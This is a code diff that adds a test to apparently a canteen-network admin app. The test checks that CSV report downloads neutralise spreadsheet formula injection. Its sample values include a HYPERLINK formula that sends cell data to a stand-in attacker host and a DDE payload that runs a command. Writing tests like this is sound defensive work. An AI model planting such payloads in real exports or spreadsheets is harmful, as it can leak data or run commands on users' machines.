@@ -123,6 +123,30 @@ async def test_every_table_downloads_as_csv_with_the_numbers(
         ).status_code == 200
 
 
+async def test_names_typed_as_formulas_download_as_plain_text_and_numbers_stay_numbers(
+    client: Any, settings: Any, canteens: dict[str, int]
+) -> None:
+    from canteen.network.tables import Canteen
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+    await Canteen.update(
+        {Canteen.name: attack, Canteen.city: "+cmd|' /C calc'!A0", Canteen.neighbourhood: "@x"}
+    ).where(Canteen.id == canteens["lyon"])
+    await sign_in(client, settings, {"staff": True})
+    for name in ("canteens", "first-visits"):
+        response = await client.get(f"/admin/reports/network/csv/{name}.csv?{SPRING}&lang=en")
+        assert response.status_code == 200
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        starts = {cell[:1] for row in rows for cell in row}
+        assert not starts & {"=", "+", "-", "@", "\t", "\r"}, name
+        assert any(row[0] == "'" + attack for row in rows), name
+    table = await client.get(f"/admin/reports/network/csv/canteens.csv?{SPRING}&lang=en")
+    rows = list(csv.reader(io.StringIO(table.content.decode("utf-8-sig"))))
+    lyon = next(row for row in rows if row[0] == "'" + attack)
+    assert lyon[1:3] == ["'+cmd|' /C calc'!A0", "'@x"]
+    assert lyon[4].isdigit() and int(lyon[4]) > 0  # covers: a number a spreadsheet sums
+
+
 async def test_a_hidden_figure_is_an_empty_cell_with_a_note_in_the_csv(
     client: Any, settings: Any, canteens: dict[str, int]
 ) -> None:
